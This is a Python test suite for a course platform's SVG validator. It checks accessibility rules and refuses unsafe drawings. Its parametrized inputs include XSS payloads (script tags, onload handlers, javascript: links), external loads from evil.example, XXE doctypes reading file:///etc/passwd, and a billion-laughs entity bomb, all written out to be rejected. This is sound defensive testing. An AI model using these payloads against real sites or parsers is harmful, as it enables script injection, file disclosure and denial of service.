"""SVG drawings: what a diagram needs is taken; what could run, load or hide is not."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from course.content.courses.drawings import MAX_BYTES, MOST_ELEMENTS, read_drawing
from course.content.courses.pictures import read_picture
from tests.content import small

PATH = f"lessons/{small.COURSE}/media/a.svg"
OPEN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 360">'
PANEL = '<rect x="0" y="0" width="640" height="360" fill="#ffffff"/>'
SOUND = f"""<?xml version="1.0" encoding="UTF-8"?>
<!-- A drawing as one is drawn for a course. -->
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 360" width="640" height="360"
     role="img" aria-labelledby="name" xml:lang="en">
  <title id="name">Two people on a path</title>
  <desc>They walk side by side.</desc>
  <defs>
    <marker id="arrow" viewBox="0 0 10 10" refX="9" refY="5" markerWidth="6" markerHeight="6"
            orient="auto-start-reverse"><path d="M 0 0 L 10 5 L 0 10 z"/></marker>
    <linearGradient id="sky" x1="0" y1="0" x2="0" y2="1">
      <stop offset="0" stop-color="#dbe9f6"/><stop offset="100%" stop-color="#fff"/>
    </linearGradient>
  </defs>
  {PANEL}
  <g fill="none" stroke="#1d4f91" stroke-width="2" transform="translate(10 20) rotate(45)">
    <path d="M10,10 C 20 20, 40 20, 50 10" marker-end="url(#arrow)"/>
    <circle cx="5" cy="5" r="3" fill="url(#sky)"/><ellipse cx="9" cy="9" rx="4" ry="2"/>
    <line x1="0" y1="0" x2="9" y2="9" stroke-dasharray="4 2"/>
    <polyline points="0,0 5,5 10,0"/><polygon points="0 0 5 5 10 0"/>
  </g>
  <text x="20" y="300" font-size="24" font-family="sans-serif" text-anchor="middle"
        font-weight="bold">Listen <tspan dx="4" fill="rgb(20, 40, 60)">first</tspan></text>
</svg>
"""


def drawn(inside: str, opened: str = OPEN) -> bytes:
    return f"{opened}\n{PANEL}\n{inside}\n</svg>\n".encode()


def codes(content: bytes) -> list[str]:
    return [each.code for each in read_drawing(content, PATH).findings]


def only(content: bytes, code: str):
    drawing = read_drawing(content, PATH)
    assert [each.code for each in drawing.findings] == [code]
    return drawing.findings[0]


def test_a_drawing_of_a_course_is_taken_with_its_size():
    drawing = read_drawing(SOUND.encode(), PATH)
    assert drawing.findings == ()
    assert (drawing.width, drawing.height) == (640, 360)
    media = read_picture(SOUND.encode(), PATH, "media/a.svg").media
    assert media is not None
    assert (media.extension, media.width, media.height) == ("svg", 640, 360)


def test_a_byte_order_mark_and_windows_line_ends_are_taken():
    assert codes(b"\xef\xbb\xbf" + SOUND.replace("\n", "\r\n").encode()) == []


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<script href="//evil.example/x.js"/>',
        '<circle r="4" onload="alert(1)"/>',
        '<circle r="4" onclick="alert(1)"/>',
        '<a href="javascript:alert(1)"><circle r="4"/></a>',
        '<a xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
        '<image href="https://evil.example/a.png"/>',
        '<image href="data:image/svg+xml;base64,AAAA"/>',
        '<use href="https://evil.example/a.svg#x"/>',
        '<use href="#x"/>',
        '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">Hello</p></foreignObject>',
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>',
        '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
        "<style>@import url(https://evil.example/a.css);</style>",
        "<style>* { fill: url(https://evil.example/a.svg#x) }</style>",
        '<circle r="4" style="fill:url(https://evil.example/a)"/>',
        '<circle r="4" fill="url(https://evil.example/a.svg#x)"/>',
        '<circle r="4" fill="url(&#104;ttps://evil.example/a.svg#x)"/>',
        '<circle r="4" fill="url(\'https://evil.example\')"/>',
        '<circle r="4" fill="expression(alert(1))"/>',
        '<circle r="4" filter="url(#x)"/>',
        '<circle r="4" mask="url(#x)"/>',
        '<circle r="4" class="big"/>',
        '<set attributeName="href" to="javascript:alert(1)"/>',
        '<animate attributeName="fill" values="red;blue" dur="1s"/>',
        '<animateTransform attributeName="transform"/>',
        '<handler type="text/javascript">alert(1)</handler>',
        '<filter id="a"/>',
        '<pattern id="a"/>',
        '<symbol id="a"/>',
        '<svg viewBox="0 0 9 9"/>',
        '<text font-size="30" font-family="a;} @import url(x)">Hello</text>',
        '<g transform="scale(1000)"/>',
        '<rect width="99999999" height="1"/>',
        '<g data-x="1"/>',
        '<g xml:base="https://evil.example/"/>',
    ],
)
def test_what_could_run_or_load_is_refused(inside: str):
    drawing = read_drawing(drawn(inside), PATH)
    assert {each.code for each in drawing.findings} == {"F111"}
    assert drawing.width == 0
    assert read_picture(drawn(inside), PATH, "media/a.svg").media is None


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd">',
        '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>',
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        + "".join(
            f'<!ENTITY {y} "{f"&{x};" * 10}">' for x, y in zip("abcdefgh", "bcdefghi", strict=True)
        )
        + "]>",
        '<!DOCTYPE svg [<!ATTLIST circle onload CDATA "alert(1)">]>',
    ],
)
def test_a_doctype_is_refused_before_anything_in_it_is_read(doctype: str):
    before = time.process_time()
    each = only(f"{doctype}\n".encode() + drawn("<text>&a; &i;</text>"), "F111")
    assert each.message == "a drawing has no DOCTYPE"
    assert time.process_time() - before < 1


def test_an_instruction_to_load_a_style_sheet_is_refused():
    sheet = b'<?xml-stylesheet href="https://evil.example/a.css"?>\n'
    assert "xml-stylesheet" in only(sheet + drawn(""), "F111").message


@pytest.mark.parametrize(
    "opened",
    [
        OPEN.replace(' viewBox="0 0 640 360"', ""),
        OPEN.replace("0 0 640 360", "0 0 640"),
        OPEN.replace("0 0 640 360", "0 0 0 0"),
        OPEN.replace("0 0 640 360", "0 0 99999 360"),
        OPEN.replace("0 0 640 360", "0 0 NaN 360"),
        OPEN.replace(">", ' width="99999">'),
        OPEN.replace(">", ' width="100%">'),
        OPEN.replace("2000/svg", "2000/svgs"),
        OPEN.replace(' xmlns="http://www.w3.org/2000/svg"', ""),
    ],
)
def test_a_drawing_says_how_large_it_is(opened: str):
    assert "F111" in codes(drawn("", opened))
    assert read_drawing(drawn("", opened), PATH).height == 0


def test_what_leads_to_nothing_is_told():
    each = only(drawn('<line x1="0" y1="0" x2="9" y2="9" marker-end="url(#arow)"/>'), "F111")
    assert each.message == 'nothing in this drawing has the id "arow"'


def test_an_arrowhead_has_no_arrowheads():
    inner = '<path d="M0 0 L9 9" marker-end="url(#a)"/>'
    assert "has no setting" in only(drawn(f'<marker id="a">{inner}</marker>'), "F111").message


@pytest.mark.parametrize(
    "content",
    [b"", b"<svg", b"\x89PNG\r\n\x1a\n", b"\xff\xfe<\0s\0v\0g\0", drawn("")[:-5], b"\xff" * 40],
)
def test_what_is_no_drawing_is_one_finding(content: bytes):
    only(content, "F108")


def test_a_drawing_of_more_than_256_kb_is_not_read():
    assert "256 kB" in only(b" " * (MAX_BYTES + 1), "F103").message
    assert (
        only(drawn("<g/>" * (MOST_ELEMENTS + 1)), "F111").message == "this drawing holds too much"
    )
    assert codes(drawn("<g>" * 40 + "</g>" * 40)) == ["F111"]


def test_a_mistake_has_its_place_and_its_line():
    each = only(drawn('  <circle r="4" onload="go()"/>'), "F111")
    assert (each.place.line, small.shown(each)) == (3, "onload")


@pytest.mark.parametrize(
    ("inside", "opened", "told"),
    [
        ('<text font-size="21">Hello</text>', OPEN, True),
        ('<text font-size="22">Hello</text>', OPEN, False),
        ("<text>Hello</text>", OPEN, True),
        ('<g font-size="30"><text>Hello</text></g>', OPEN, False),
        ('<text font-size="30">A <tspan font-size="12">b</tspan></text>', OPEN, True),
        ('<text font-size="12"><tspan font-size="30">b</tspan></text>', OPEN, False),
        ('<desc>Small words</desc><text font-size="8"> </text>', OPEN, False),
    ],
)
def test_words_that_are_too_small_on_a_phone_are_told(inside: str, opened: str, told: bool):
    """640 wide on a page of 320: letters are shown half as high, and 11 is the least."""
    assert codes(drawn(inside, opened)) == (["A506"] if told else [])


@pytest.mark.parametrize(
    "panel",
    [
        "",
        PANEL.replace("#ffffff", "#333333"),
        PANEL.replace("#ffffff", "none"),
        PANEL.replace(' fill="#ffffff"', ""),
        PANEL.replace('width="640"', 'width="320"'),
        PANEL.replace("/>", ' opacity="0.5"/>'),
        f"<circle r='4'/>{PANEL}",
    ],
)
def test_a_drawing_brings_a_light_background(panel: str):
    content = drawn("").replace(PANEL.encode(), panel.encode())
    assert PANEL in only(content, "A507").help


def test_a_drawing_in_a_lesson_is_a_picture_of_its_edition():
    picture = b"\n![Two people on a path](media/a.svg)\n\n/// question"
    whole = small.files() | {PATH: SOUND.encode()}
    whole[small.GIFTS] = whole[small.GIFTS].replace(b"\n/// question", picture, 1)
    reading = small.read(whole)
    assert reading.findings == ()
    assert reading.edition is not None
    (media,) = reading.edition.media
    lesson = reading.edition.lesson_by_id["gifts"]
    html = "".join(part.html for part in lesson.parts if part.kind == "html")
    assert f'src="/media/{media.hash}.svg"' in html
    assert 'width="640"' in html
    assert 'height="360"' in html


def test_damaged_words_of_a_drawing_are_told():
    told = only(drawn('<text font-size="30">Give hÃ©lp</text>'), "T401")
    assert told.place.line == 3


@settings(max_examples=200, deadline=None)
@given(cut=st.integers(0, len(SOUND)), noise=st.text(max_size=12))
def test_a_damaged_drawing_raises_nothing(cut: int, noise: str):
    damaged = (SOUND[:cut] + noise + SOUND[cut + 3 :]).encode("utf-8", "replace")
    drawing = read_drawing(damaged, PATH)
    assert drawing.findings or drawing.width


def test_a_drawing_in_another_encoding_is_told_at_a_place_that_is_there():
    """A byte too many, and the parser no longer sees where lines end."""
    rows = ["<svg xmlns='http://www.w3.org/2000/svg'>", *["<rect x='1'/>"] * 20, "</svg>"]
    content = "\n".join(rows).encode("utf-16-le")
    content = content[:80] + b" " + content[80:]
    *_, each = read_drawing(content, "media/a.svg").findings
    assert each.code == "F108"
    lines = content.decode("utf-8", "replace").split("\n")
    assert each.place.end_column <= len(lines[each.place.line - 1]) + 2
